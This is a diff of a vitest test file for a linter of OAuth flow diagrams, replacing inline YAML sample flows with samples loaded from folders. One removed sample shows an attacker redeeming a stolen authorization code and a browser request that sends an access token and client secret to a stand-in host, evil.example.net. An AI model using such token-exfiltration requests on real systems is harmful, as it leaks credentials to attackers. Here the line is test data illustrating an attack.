@@ -1,69 +1,36 @@
-/** Flows that nobody should be told of an error in: thin ones, dialects of vendors, and attacks that are shown. */
+/**
+ * Flows that nobody should be told of an error in: dialects of vendors, sketches, attacks that are shown, imported diagrams.
+ * What else is told of them stands in realistic.out, to be read.
+ */
+import { readdirSync, readFileSync } from 'node:fs';
 import { expect, it } from 'vitest';
-import { lines, lintText } from './compile.js';
+import { compileFlow } from '../../src/compile.js';
+import { lintFlow } from '../../src/lint/lint-flow.js';
+import { lines, lintText, root } from './compile.js';
 
-const head = `id: flow
-title: Flow
-participants:
-  B: { label: Browser, kind: browser }
-  C: { label: Client, kind: confidential-client }
-  APP: { label: App, kind: public-client }
-  AS: { label: Server, kind: authorization-server, url: https://as.example.com }
-  X: { label: Attacker, kind: attacker }
-steps:
-`;
-
-const flows: Readonly<Record<string, string>> = {
-  'without data': `
-  - B -> AS: GET /authorize
-  - AS --> B: 302 with a code
-  - C -> AS: POST /token
-  - AS --> C: 200 tokens
-`,
-  'a response without its headers': `
-  - C -> AS: POST /token
-    request: { headers: { Authorization: "Basic <id:secret>" }, form: { grant_type: client_credentials } }
-  - AS --> C: 200 tokens
-    response: { json: { access_token: "...", token_type: Bearer } }
-`,
-  'Google: the scope is a claim, and there is no sub': `
-  - C -> AS: POST /token
-    request: { form: { grant_type: "urn:ietf:params:oauth:grant-type:jwt-bearer", assertion: "<jwt>" } }
-    jwts:
-      assertion: { header: { alg: RS256 }, claims: { iss: robot@acme.example, scope: read, aud: "https://as.example.com/token", iat: 1, exp: 3601 } }
-`,
-  'Auth0: a token request in JSON': `
-  - C -> AS: POST /oauth/token
-    request: { json: { grant_type: client_credentials, client_id: "<id>", client_secret: "<secret>", audience: "<api>" } }
-`,
-  'an attacker redeems a stolen code': `
-  - X -> AS: POST /token
-    request: { form: { grant_type: authorization_code, code: "<stolen>", client_secret: "<stolen too>" } }
-  - B -> X: GET /evil
-    request: { url: "http://evil.example.net/?access_token=x", query: { client_secret: x } }
-`,
-  'the last round of polling after the loop': `
-  - loop: every 5 seconds
-    steps:
-      - APP -> AS: POST /token
-        request: { form: { grant_type: "urn:ietf:params:oauth:grant-type:device_code", device_code: "<code>" } }
-      - AS --> APP: 400 authorization_pending
-        response: { json: { error: authorization_pending } }
-  - APP -> AS: POST /token
-    request: { form: { grant_type: "urn:ietf:params:oauth:grant-type:device_code", device_code: "<code>" } }
-`,
-  'a loopback redirect to any port': `
-  - B -> AS: GET /authorize
-    request: { query: { response_type: code, redirect_uri: "http://127.0.0.1:<port>/cb", state: "<state>", code_challenge: "<challenge>", code_challenge_method: S256 } }
-  - AS --> B -> APP: 303 to the app
-    redirect: { to: "http://127.0.0.1:51004/cb", query: { code: "<code>", state: "<state>" } }
-`,
-  'a cookie against forgery, and one that ends': `
-  - C --> B: 200 page
-    response: { headers: { Set-Cookie: ["XSRF-TOKEN=<random>; Path=/; Secure; SameSite=Lax", "sid=; Max-Age=0"] } }
-`,
+const flowsIn = (folder: string): readonly (readonly [name: string, text: string])[] => {
+  const url = new URL(folder, root);
+  return readdirSync(url)
+    .filter((name) => name.endsWith('.yaml'))
+    .map((name) => [name.replace('.yaml', ''), readFileSync(new URL(name, url), 'utf8')]);
 };
 
-it.each(Object.entries(flows))('%s', (_, steps) => {
-  expect(lines(lintText(head + steps.slice(1), 'flow.yaml')).filter((line) => line.startsWith('error'))).toEqual([]);
+const realistic = flowsIn('test/lint/realistic/').map(
+  ([name, text]) => [name, lines(lintText(text, `${name}.yaml`))] as const,
+);
+
+it.each(realistic)('%s', (_, found) => {
+  expect(found.filter((line) => line.startsWith('error'))).toEqual([]);
+});
+
+it('tells nothing else that an expert would dispute', async () => {
+  const told = realistic.filter(([, found]) => found.length > 0);
+  const report = told.map(([name, found]) => [name, ...found.map((line) => `  ${line}`), ''].join('\n'));
+  await expect(report.join('\n')).toMatchFileSnapshot('realistic.out');
+});
+
+it('tells nothing of diagrams that were imported', () => {
+  const flows = flowsIn('test/import/golden/').flatMap(([path, text]) => compileFlow({ path, text }).flow ?? []);
+  expect(flows.length).toBeGreaterThan(20);
+  expect(flows.flatMap((flow) => lines(lintFlow(flow)))).toEqual([]);
 });
